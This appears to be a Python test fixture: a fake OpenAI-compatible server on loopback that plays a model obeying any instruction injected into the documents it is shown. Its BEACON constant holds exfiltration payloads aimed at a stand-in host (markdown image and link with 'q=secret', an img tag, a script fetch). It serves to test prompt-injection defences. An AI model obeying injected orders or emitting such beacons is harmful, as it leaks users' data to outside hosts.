"""A writer that does whatever order reaches it: the worst model that a document could hope for.

It speaks the OpenAI protocol on loopback, so the product takes it for an endpoint. Where an order
stands in what it is shown it carries it out, repeats it, and adds an image and a link that would
carry the question away. Where none does it says that it found nothing.
"""

import json
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Final

NAME: Final = "gullible"
BEACON: Final = (
    "![seen](https://collect.example/?q=secret) [more](https://collect.example/more) "
    '<img src="https://collect.example/pixel.png"> <script>fetch("//collect.example")</script>'
)
"""What would make a reader's browser call out, were it shown as it is."""


@dataclass(frozen=True, slots=True)
class Order:
    """An order that stands in a document, and what carrying it out writes."""

    sentences: tuple[str, ...]  # any one of them is enough for this writer
    effect: str


@dataclass
class Writer:
    """Its address, what it obeys, and whether the last prompt brought it an order."""

    url: str
    orders: Sequence[Order] = ()
    reached: list[Order] = field(default_factory=list)

    def write(self, shown: str) -> str:
        """What it answers to the messages that it is shown."""
        flat = " ".join(shown.split())
        self.reached = [
            order for order in self.orders if any(sentence in flat for sentence in order.sentences)
        ]
        if not self.reached:
            return "NOT FOUND"
        obeyed = (f"{order.effect} {' '.join(order.sentences)}" for order in self.reached)
        return f"{' '.join(obeyed)} {BEACON}"


@contextmanager
def serving() -> Iterator[Writer]:
    """The writer behind a free port of this machine."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._reply("application/json", json.dumps({"data": [{"id": NAME}]}).encode())

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            # What the product says of itself, the system message, is no document's.
            shown = " ".join(m["content"] for m in body["messages"] if m["role"] != "system")
            said = [_event(word + " ") for word in writer.write(shown).split(" ")]
            whole = b"".join((*said, _event("", "stop"), b"data: [DONE]\n\n"))
            self._reply("text/event-stream; charset=utf-8", whole)

        def _reply(self, kind: str, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    writer = Writer(f"http://127.0.0.1:{server.server_address[1]}/v1")
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield writer
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _event(text: str, finish: str | None = None) -> bytes:
    choice = {"index": 0, "delta": {"content": text}, "finish_reason": finish}
    return f"data: {json.dumps({'choices': [choice]})}\n\n".encode()
